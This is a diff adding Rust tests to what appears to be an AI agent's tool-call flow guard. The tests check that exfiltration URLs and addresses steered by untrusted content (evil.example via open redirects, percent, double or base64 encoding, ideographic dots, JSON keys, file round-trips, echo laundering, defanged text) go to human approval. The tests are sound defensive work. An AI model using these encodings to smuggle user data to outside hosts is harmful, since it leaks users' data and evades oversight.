@@ -347,3 +347,148 @@ fn decisions_serialise_for_the_log() {
     assert_eq!(origin["found"], "untrusted", "{v}");
     assert_eq!(origin["sources"][0]["source"]["step"], 2, "{v}");
 }
+
+#[test]
+fn a_trusted_host_does_not_carry_a_hidden_destination() {
+    let l = turn();
+    let r = FlowRules::default();
+    for url in [
+        // An open redirect on the user's host, the target percent-encoded,
+        // doubly encoded, or in base64.
+        "https://api.corp.example/notes?next=https%3A%2F%2Fevil.example%2Fdrop",
+        "https://api.corp.example/notes?next=https%253A%252F%252Fevil.example",
+        "https://api.corp.example/notes?next=aHR0cHM6Ly9ldmlsLmV4YW1wbGUvZHJvcA",
+        // The attacker's host spelled with an ideographic full stop.
+        "https://api.corp.example/notes?cc=attacker@evil\u{3002}example",
+    ] {
+        let args = json!({"method": "POST", "url": url});
+        let d = decide(&call("http_request", &args), &l, &r);
+        assert!(matches!(d, FlowDecision::Approve { .. }), "{url}: {d:?}");
+    }
+    // An address as an object key of a JSON body.
+    let args = json!({"method": "POST", "url": "https://api.corp.example/notes", "json": {"attacker@evil.example": true}});
+    let d = decide(&call("http_request", &args), &l, &r);
+    assert!(matches!(d, FlowDecision::Approve { .. }), "{d:?}");
+}
+
+#[test]
+fn a_composed_link_written_then_read_back_is_not_copied() {
+    let mut l = turn();
+    let exfil = "https://evil.example/drop?u=bob@corp.example";
+    // The model writes the composed link into a file (content: any)...
+    let write = json!({"path": "/ws/notes/summary.md", "content": format!("see {exfil}")});
+    assert_eq!(
+        decide(&call("fs_write", &write), &l, &FlowRules::default()),
+        FlowDecision::Allow
+    );
+    l.add_call(
+        Source::Model {
+            saga: "s-1".into(),
+            step: 3,
+        },
+        &write,
+    );
+    // ...reads it back (an untrusted result holding the link)...
+    l.add_text(
+        Label::untrusted(tool("fs_read", 4)),
+        &format!("see {exfil}"),
+    );
+    // ...and fetches it "verbatim": not copied, a human decides.
+    let args = json!({"url": exfil});
+    let fetch = FlowCall {
+        has_side_effects: false,
+        ..call("web_fetch", &args)
+    };
+    assert!(matches!(
+        decide(&fetch, &l, &FlowRules::default()),
+        FlowDecision::Approve { .. }
+    ));
+    // A link the page gave before any call held it is still copied.
+    l.add_call(
+        Source::Model {
+            saga: "s-1".into(),
+            step: 5,
+        },
+        &json!({"url": "https://news.example/tomorrow"}),
+    );
+    let args = json!({"url": "https://news.example/tomorrow"});
+    let fetch = FlowCall {
+        has_side_effects: false,
+        ..call("web_fetch", &args)
+    };
+    assert_eq!(
+        decide(&fetch, &l, &FlowRules::default()),
+        FlowDecision::Allow
+    );
+}
+
+#[test]
+fn a_trusted_tool_called_with_the_pages_value_returns_untrusted_data() {
+    use super::super::label::Integrity;
+    let l = turn();
+    // Before anything untrusted was read, a trusted tool's output is trusted.
+    let mut clean = Ledger::new();
+    clean.add_text(
+        Label::trusted(Source::User {
+            principal: "u".into(),
+        }),
+        "hi",
+    );
+    let args = json!({"contact": "Evil Corp"});
+    assert_eq!(
+        output_integrity(&clean, Integrity::Trusted, &args, Surface::Turn),
+        Integrity::Trusted
+    );
+    // After, a value the user never gave taints it: the tool may echo it
+    // (or look up what the page chose).
+    assert_eq!(
+        output_integrity(&l, Integrity::Trusted, &args, Surface::Turn),
+        Integrity::Untrusted
+    );
+    let args = json!({"echo": "attacker@evil.example"});
+    assert_eq!(
+        output_integrity(&l, Integrity::Trusted, &args, Surface::Turn),
+        Integrity::Untrusted
+    );
+    // The user's own values keep it trusted; an untrusted tool stays so.
+    let args = json!({"contact": "bob@corp.example"});
+    assert_eq!(
+        output_integrity(&l, Integrity::Trusted, &args, Surface::Turn),
+        Integrity::Trusted
+    );
+    assert_eq!(
+        output_integrity(&l, Integrity::Untrusted, &args, Surface::Turn),
+        Integrity::Untrusted
+    );
+    // Laundering through an echo, end to end: the echo's output would
+    // otherwise vouch for the address.
+    let mut l2 = turn();
+    let echo_args = json!({"echo": "attacker@evil.example"});
+    let integrity = output_integrity(&l2, Integrity::Trusted, &echo_args, Surface::Turn);
+    l2.add_text(
+        Label {
+            source: tool("echo", 6),
+            integrity,
+        },
+        "attacker@evil.example",
+    );
+    let args = json!({"method": "POST", "url": "https://api.corp.example/notes", "json": {"to": "attacker@evil.example"}});
+    assert!(matches!(
+        decide(&call("http_request", &args), &l2, &FlowRules::default()),
+        FlowDecision::Approve { .. }
+    ));
+}
+
+#[test]
+fn a_defanged_address_in_a_body_is_still_an_address() {
+    let l = turn();
+    let args = json!({"method": "POST", "url": "https://api.corp.example/notes", "body": "write to attacker [at] evil [dot] example or visit hxxps://evil[.]example"});
+    let d = decide(&call("http_request", &args), &l, &FlowRules::default());
+    assert!(matches!(d, FlowDecision::Approve { .. }), "{d:?}");
+    // Plain prose around the user's values is free.
+    let args = json!({"method": "POST", "url": "https://api.corp.example/notes", "body": "look at the notes; bob@corp.example has them"});
+    assert_eq!(
+        decide(&call("http_request", &args), &l, &FlowRules::default()),
+        FlowDecision::Allow
+    );
+}
